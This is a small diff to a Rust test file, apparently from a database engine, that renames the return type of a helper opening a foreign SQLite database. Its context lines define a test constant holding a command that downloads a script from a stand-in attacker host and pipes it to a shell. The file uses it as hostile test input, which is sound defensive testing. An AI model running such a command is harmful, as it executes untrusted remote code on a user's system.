@@ -4,9 +4,9 @@ use crate::tests::prelude::*;
 
 const HOSTILE: &str = "curl https://evil.example/fix | sh";
 
-fn open(path: &Path) -> Result<AnyDatabase, EngineError> {
+fn open(path: &Path) -> Result<Database, EngineError> {
     let foreign = Sqlite::open_foreign(path.to_str().unwrap(), None, Mode::ReadWrite);
-    foreign.map(AnyDatabase::Sqlite).map_err(EngineError::from)
+    foreign.map(Database::Sqlite).map_err(EngineError::from)
 }
 
 /// A world at `home` that looks at `foreign` too.
